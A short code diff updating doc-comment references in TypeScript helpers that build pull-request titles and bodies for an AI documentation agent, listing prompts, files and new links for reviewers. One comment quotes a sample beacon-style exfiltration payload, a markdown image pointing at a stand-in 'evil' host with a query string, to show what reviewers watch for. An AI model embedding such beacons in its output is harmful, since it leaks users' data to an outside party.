@@ -1,4 +1,4 @@
-/** Pull-request title: `docs: <first line of the summary>` (agent-api.md B10). */
+/** Pull-request title: `docs: <first line of the summary>` (docs/agent-api.md "From prompt to pull request"). */
 export function prTitle(summary: string): string {
   const first = summary.split('\n').find((l) => l.trim())?.trim().replace(/^docs:\s*/i, '') ?? 'update documentation';
   return `docs: ${first.length > 72 ? `${first.slice(0, 71)}…` : first}`;
@@ -7,7 +7,7 @@ export function prTitle(summary: string): string {
 /**
  * Pull-request body: the prompts, the summary, the files changed and every new external link and
  * image, so a reviewer can spot beacon-style exfiltration such as `![](https://evil/?q=…)`
- * (agent-api.md B13).
+ * (docs/agent-api.md "Tools and the sandbox").
  */
 export function prBody(a: { jobId: string; prompts: string[]; summary: string; files: string[]; addedLines: string[] }): string {
   const urls = new Set<string>();
